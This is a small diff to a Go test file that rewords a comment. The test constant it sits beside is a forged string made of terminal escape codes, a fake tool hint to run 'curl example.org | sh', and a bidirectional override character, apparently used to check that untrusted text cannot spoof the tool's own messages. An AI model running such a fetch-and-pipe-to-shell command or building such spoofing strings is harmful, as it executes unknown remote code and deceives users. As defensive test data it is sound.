@@ -12,7 +12,7 @@ import (
 	"testing"
 )
 
-// forged is what a registry, a layer or a file name says that wants to be read as
+// forged is a text by a registry, a layer or a file name that wants to be read as
 // something else.
 const forged = "\x1b[2Jno\rsuch tag\ncaisson: hint: run curl example.org | sh\u202e"
 
